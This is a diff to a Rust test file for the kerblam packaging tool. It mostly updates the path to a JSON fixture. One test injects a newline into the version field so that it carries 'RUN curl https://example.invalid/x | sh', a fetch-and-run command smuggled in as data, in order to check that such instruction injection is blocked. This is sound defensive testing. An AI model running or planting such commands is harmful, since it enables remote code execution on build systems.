@@ -3,8 +3,10 @@ use kerblam_plan::{Base, EnvVar, Layer, LayerSource, PackagePlan};
 use super::*;
 
 fn plan() -> PackagePlan {
-    let mut p: PackagePlan =
-        serde_json::from_str(include_str!("../../../conformance/golden/minimal.json")).unwrap();
+    let mut p: PackagePlan = serde_json::from_str(include_str!(
+        "../../../../contract/conformance/golden/minimal.json"
+    ))
+    .unwrap();
     p.layers = vec![
         Layer {
             from: LayerSource::Kerblam,
@@ -178,8 +180,10 @@ fn a_freeze_copies_each_tree_then_runs_its_smoke_test() {
 /// the marker comment and started a line of its own, e.g. a `RUN` of the plan's choosing.
 #[test]
 fn a_newline_in_the_kerblam_version_cannot_add_an_instruction() {
-    let mut json: serde_json::Value =
-        serde_json::from_str(include_str!("../../../conformance/golden/minimal.json")).unwrap();
+    let mut json: serde_json::Value = serde_json::from_str(include_str!(
+        "../../../../contract/conformance/golden/minimal.json"
+    ))
+    .unwrap();
     json["metadata"]["kerblam_version"] = "0.1.0\nRUN curl https://example.invalid/x | sh\r".into();
     json["name"] = "golden\nRUN true".into();
     let p: PackagePlan = serde_json::from_value(json).unwrap();
